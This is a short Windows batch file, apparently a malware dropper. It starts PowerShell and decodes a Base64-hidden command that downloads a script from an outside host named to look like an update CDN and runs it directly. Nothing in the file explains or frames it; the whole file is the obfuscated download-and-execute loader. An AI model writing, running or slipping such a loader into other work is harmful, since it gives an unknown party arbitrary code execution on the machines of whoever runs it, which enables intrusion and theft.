@echo off
powershell -NoProfile -Command "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('SUVYIChOZXctT2JqZWN0IE5ldC5XZWJDbGllbnQpLkRvd25sb2FkU3RyaW5nKCdodHRwczovL2Nkbi11cGQubmV0L2EucHMxJyk=')))"
